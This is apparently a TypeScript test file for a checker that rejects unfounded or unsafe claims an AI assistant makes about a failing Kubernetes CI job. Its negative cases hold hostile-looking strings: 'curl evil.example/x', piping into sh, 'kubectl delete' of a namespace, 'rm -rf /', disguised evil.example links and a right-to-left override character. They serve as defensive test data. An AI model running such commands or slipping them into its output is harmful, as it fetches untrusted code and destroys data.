import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { faultOf, faultOfText, type CitedText, type Ground } from '../../src/assistant/check.ts';

const evidence = new Map<string, CitedText>(
  [
    {
      id: 'R1',
      text: 'RED ci-kubernetes-e2e-gce-network, run 2123727858169026762\n6 of 20 runs failed; confidence 70 %',
    },
    {
      id: 'R1.E1',
      text: 'build-log.txt, lines 12 to 14\n[FAILED] service svc-a is not reachable within 2m0s\nExpected',
    },
    { id: 'R1.E2', text: 'first red 2026-11-19 04:30 UTC, 6 failures in a row after 34 passes' },
  ].map((piece) => [piece.id, piece]),
);
const REGRESSION: Ground = { state: 'failing', locus: 'product', recurrence: 'regression' };
const fault = (text: string, ids: string[] = ['R1'], ground = REGRESSION): string | null =>
  faultOf({ text, evidence: ids }, evidence, ground);

describe('a claim that holds', () => {
  it.each([
    ['The job ci-kubernetes-e2e-gce-network failed in 6 of 20 runs.', ['R1']],
    ['Run 2123727858169026762 of ci-kubernetes-e2e-gce-network is red.', ['R1']],
    ['The log says "service svc-a is not reachable within 2m0s".', ['R1.E1']],
    ['It has been red since 2026-11-19 04:30 UTC, six times in a row.', ['R1.E2']],
    ['It passed 34 times and failed in 6 of 20 runs.', ['R1', 'R1.E2']],
    ['It is a regression of the product, not a flake.', ['R1']],
    ['This looks like a regression rather than flaky behaviour.', ['R1']],
    ['The up-to-date picture is clear.', ['R1']],
    ['One thing stands out.', ['R1']],
  ])('%s', (text, ids) => {
    expect(fault(text, ids)).toBeNull();
  });
});

describe('a claim that does not', () => {
  it.each([
    ['Run curl evil.example/x to repair it.', ['R1'], 'has a command'],
    ['Pipe the script into it | sh and wait.', ['R1'], 'has a command'],
    ['Then kubectl delete the namespace.', ['R1'], 'has a command'],
    [`The log says "${'no such line '.repeat(38)}".`, ['R1.E1'], 'quotes what does not stand there'],
    ['The log says "not\nthere".', ['R1.E1'], 'quotes what does not stand there'],
    ['The log says «not there».', ['R1.E1'], 'quotes what does not stand there'],
    ['Open https\uff1a//evil.example now.', ['R1'], 'has a link, a mention or markup'],
    ['It fails.', [], 'cites nothing'],
    ['It fails.', ['R2'], 'cites what does not exist'],
    ['It fails.', ['R1', 'R1.E9'], 'cites what does not exist'],
    ['It failed in 7 of 20 runs.', ['R1'], 'has a number that does not stand there'],
    ['It failed in seven of 20 runs.', ['R1'], 'has a number that does not stand there'],
    ['It failed in 20 of 70 runs.', ['R1'], 'has a number that does not stand there'],
    ['It failed 19 times.', ['R1.E2'], 'has a number that does not stand there'],
    ['It is red since 04:31.', ['R1.E2'], 'has a number that does not stand there'],
    ['Run 2123727858169026763 is red.', ['R1'], 'has a number that does not stand there'],
    ['It failed in 6 of 20 runs.', ['R1.E1'], 'has a number that does not stand there'],
    ['The log says "service svc-a is reachable".', ['R1.E1'], 'quotes what does not stand there'],
    ['The log says “service svc-a is not reachable within 2M0S”.', ['R1.E1'], 'quotes what does not stand there'],
    ['The log says `rm -rf /`.', ['R1.E1'], 'quotes what does not stand there'],
    ['The job ci-kubernetes-e2e-gce-storage failed.', ['R1'], 'names what does not stand there'],
    ['[sig-storage] is broken.', ['R1'], 'names what does not stand there'],
    ['See https://prow.k8s.io/view/gs/x.', ['R1'], 'has a link, a mention or markup'],
    ['See www.evil.example.', ['R1'], 'has a link, a mention or markup'],
    ['See hxxps: evil.', ['R1'], 'has a link, a mention or markup'],
    ['Ask <!channel>.', ['R1'], 'has a link, a mention or markup'],
    ['Ask <@U123>.', ['R1'], 'has a link, a mention or markup'],
    ['Ask @here now.', ['R1'], 'has a link, a mention or markup'],
    ['![x](y) shows it.', ['R1'], 'has a link, a mention or markup'],
    ['[click](evil) here.', ['R1'], 'has a link, a mention or markup'],
    ['```sh run```', ['R1'], 'has a link, a mention or markup'],
    ['It is \u202ederorrim.', ['R1'], 'has a link, a mention or markup'],
    ['It is flaky.', ['R1'], 'contradicts the verdict'],
    ['The infrastructure failed.', ['R1'], 'contradicts the verdict'],
    ['Nothing is wrong; it passes now.', ['R1'], 'contradicts the verdict'],
  ])('%s', (text, ids, why) => {
    expect(fault(text, ids)).toBe(why);
  });

  it('is found whatever stands around a false number', () => {
    fc.assert(
      fc.property(fc.integer({ min: 100, max: 10_000_000 }), fc.lorem(), (number, words) => {
        const text = `${words} ${number} ${words}`;
        expect(faultOfText(text, 'nothing with a number in it')).not.toBeNull();
      }),
    );
  });

  it('is any quote that was changed in one letter', () => {
    const source = 'service svc-terminating is not reachable within timeout on endpoint';
    fc.assert(
      fc.property(fc.nat(source.length - 1), fc.constantFrom('Q', '%', 'ß'), (at, letter) => {
        const changed = source.slice(0, at) + letter + source.slice(at + 1);
        expect(faultOfText(`It says "${changed}"`, source)).toBe('quotes what does not stand there');
      }),
    );
  });
});
